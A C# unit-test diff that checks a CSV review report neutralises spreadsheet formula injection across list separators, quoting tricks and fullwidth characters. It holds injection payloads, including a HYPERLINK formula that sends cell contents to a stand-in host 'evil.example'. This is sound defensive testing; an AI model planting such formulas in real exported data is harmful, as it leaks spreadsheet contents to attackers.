@@ -30,15 +30,77 @@ public sealed class ReviewReportTests
     [InlineData("+33 6", ",'+33 6,")]
     [InlineData("-2", ",'-2,")]
     [InlineData("@SUM(A1)", ",'@SUM(A1),")]
-    [InlineData("\t=1", ",'\t=1,")]
-    [InlineData("\r=1", ",\"'\r=1\",")]
-    [InlineData("\n=1", ",\"'\n=1\",")]
+    [InlineData("\t=1", ",\"'\t'=1\",")]
+    [InlineData("\r=1", ",\"'\r'=1\",")]
+    [InlineData("\n=1", ",\"'\n'=1\",")]
+    [InlineData("Asso;=1", ",\"Asso;'=1\",")]
+    [InlineData("a-b;c=d, e@f.fr", ",\"a-b;c=d, e@f.fr\",")]
     [InlineData("＝1", ",'＝1,")]
     [InlineData("a\r\nEnded,x", ",\"a\r\nEnded,x\",")]
     [InlineData("\"", ",\"\"\"\",")]
     [InlineData("élu@orange.fr", ",élu@orange.fr,")]
     public async Task A_hostile_name_stays_in_its_cell(string name, string cell) =>
         Assert.Contains(cell, await CsvAsync(Finding(name, "/a", "It ended.")), StringComparison.Ordinal);
+
+    /// <summary>
+    /// Excel splits at the system's list separator, <c>;</c> in France, and does not know then that the table has commas; other programs
+    /// split at several.
+    /// </summary>
+    [Theory]
+    [InlineData(",")]
+    [InlineData(";")]
+    [InlineData("\t")]
+    [InlineData(",;\t")]
+    public async Task No_cell_is_a_formula_whatever_the_list_separator_of_the_spreadsheet_is(string separators)
+    {
+        string[] payloads =
+        [
+            "=HYPERLINK(\"http://evil.example/?\"&A1)",
+            "=1+1",
+            "+33",
+            "-2",
+            "@SUM(A1)",
+            "＝1",
+            "＋1",
+            "－1",
+            "＠A",
+            "﹦1",
+        ];
+        string[] ways =
+        [
+            "{0}",
+            "x;{0}",
+            "x,{0}",
+            "x\t{0}",
+            "x\n{0}",
+            "x\r{0}",
+            "x\r\n{0}",
+            "x;;{0}",
+            "x; {0}",
+            "x;\u00A0{0}",
+            "x;\u200B{0}",
+            "x;\"{0}\"",
+            "x;\"\"{0}",
+            "x\",{0}",
+            "x\";{0};\"y",
+            "\t{0}",
+            "\r{0}",
+            "\n{0}",
+            " {0}",
+            "\"{0}",
+        ];
+        ReviewFinding[] findings =
+        [
+            .. payloads
+                .SelectMany(payload => ways.Select(way => way.Replace("{0}", payload, StringComparison.Ordinal)))
+                .Select(text => Everywhere(text)),
+        ];
+
+        List<string> cells = SpreadsheetCells.Of(await CsvAsync(findings), separators);
+
+        Assert.True(cells.Count > findings.Length);
+        Assert.DoesNotContain(cells, SpreadsheetCells.IsFormula);
+    }
 
     [Fact]
     public async Task The_table_begins_with_the_mark_that_tells_Excel_its_encoding()
@@ -139,11 +201,29 @@ public sealed class ReviewReportTests
 
     private static string? Of(JsonElement finding, string name) => finding.GetProperty(name).GetString();
 
-    private static async Task<string> CsvAsync(ReviewFinding finding)
+    private static async Task<string> CsvAsync(params ReviewFinding[] findings)
     {
         using var output = new MemoryStream();
-        await ReviewReport.WriteCsvAsync(new[] { finding }.ToAsyncEnumerable(), output, Cancel);
+        await ReviewReport.WriteCsvAsync(findings.ToAsyncEnumerable(), output, Cancel);
         return Encoding.UTF8.GetString(output.ToArray())[1..];
+    }
+
+    /// <summary>A text in each column that somebody else can choose; paths cannot hold line ends.</summary>
+    private static ReviewFinding Everywhere(string text)
+    {
+        ReviewFinding finding = Finding(text, "/a", text);
+        return finding with
+        {
+            Owner = text,
+            Remedy = new(text, text),
+            Sentence = new(text, text),
+            Grant = finding.Grant! with
+            {
+                FolderId = text,
+                Path = FolderPath.FromServer("/" + text),
+                InheritedFrom = FolderPath.FromServer(text),
+            },
+        };
     }
 
     private static ReviewFinding Finding(string grantee, string path, string sentence) =>
